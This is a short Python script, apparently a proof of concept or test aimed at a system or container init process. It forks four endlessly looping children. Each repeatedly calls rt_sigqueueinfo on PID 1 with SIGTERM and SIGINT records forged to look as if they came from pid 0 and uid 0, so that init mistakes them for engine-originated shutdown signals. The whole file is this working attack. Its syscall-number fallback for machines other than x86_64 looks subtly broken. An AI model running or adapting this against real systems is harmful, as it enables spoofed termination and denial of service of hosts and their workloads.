"""Says to init what only the engine says, again and again: SIGTERM from nobody.

So also at the moment at which init ends the script."""
import ctypes
import os
import signal
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)
RT_SIGQUEUEINFO = {'x86_64': 129}.get(os.uname().machine, 138)
# number, errno, code SI_QUEUE, pid 0, user 0
FORGED = [(n, struct.pack('=iiiii', n, 0, -1, 0, 0) + bytes(128)) for n in (signal.SIGTERM, signal.SIGINT)]

for _ in range(4):
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            for _ in range(500):
                for number, info in FORGED:
                    libc.syscall(RT_SIGQUEUEINFO, 1, number, info)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
time.sleep(60)
